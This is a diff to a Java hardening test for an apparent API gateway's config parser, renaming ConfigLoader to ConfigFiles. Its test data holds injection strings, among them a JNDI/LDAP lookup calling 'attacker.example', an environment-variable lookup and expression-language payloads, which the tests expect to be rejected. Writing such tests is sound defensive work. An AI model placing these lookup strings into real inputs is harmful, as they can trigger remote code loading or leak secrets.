@@ -1,5 +1,7 @@
 package io.portcullis.lifecycle;
 
+import io.portcullis.configfile.ConfigFiles;
+
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.catchThrowableOfType;
 
@@ -79,7 +81,7 @@ class AdminHardeningTest {
 
   private static GatewayConfig parse(JsonObject config) {
     try {
-      return ConfigLoader.parse(config.encode(), name -> null);
+      return ConfigFiles.parse(config.encode(), name -> null);
     } catch (ConfigException e) {
       throw new AssertionError("config invalid:\n" + e.getMessage(), e);
     }
@@ -288,7 +290,7 @@ class AdminHardeningTest {
     List<String> looked = new CopyOnWriteArrayList<>();
     GatewayConfig config;
     try {
-      config = ConfigLoader.parse(json.encode(), name -> {
+      config = ConfigFiles.parse(json.encode(), name -> {
         looked.add(name);
         return null;
       });
@@ -346,7 +348,7 @@ class AdminHardeningTest {
         .put("endpoints", new JsonArray().add("${jndi:ldap://attacker.example/a}").add("${jndi:-http://h:1}"));
     json.put("deadline", new JsonObject().put("header", "${env:X}"));
 
-    ConfigException e = catchThrowableOfType(ConfigException.class, () -> ConfigLoader.parse(json.encode(), env));
+    ConfigException e = catchThrowableOfType(ConfigException.class, () -> ConfigFiles.parse(json.encode(), env));
 
     assertThat(e).isNotNull();
     assertThat(e.errors()).containsExactly( // in document order: upstreams, routes, deadline
@@ -365,7 +367,7 @@ class AdminHardeningTest {
     json.put("deadline", new JsonObject().put("header", "%{1+1}"));
     json.getJsonObject("upstreams").getJsonObject("backend").put("endpoints", new JsonArray().add(spel));
 
-    ConfigException e = catchThrowableOfType(ConfigException.class, () -> ConfigLoader.parse(json.encode(), n -> null));
+    ConfigException e = catchThrowableOfType(ConfigException.class, () -> ConfigFiles.parse(json.encode(), n -> null));
 
     assertThat(e).isNotNull();
     assertThat(e.errors()).containsExactly( // in document order: upstreams, routes, deadline
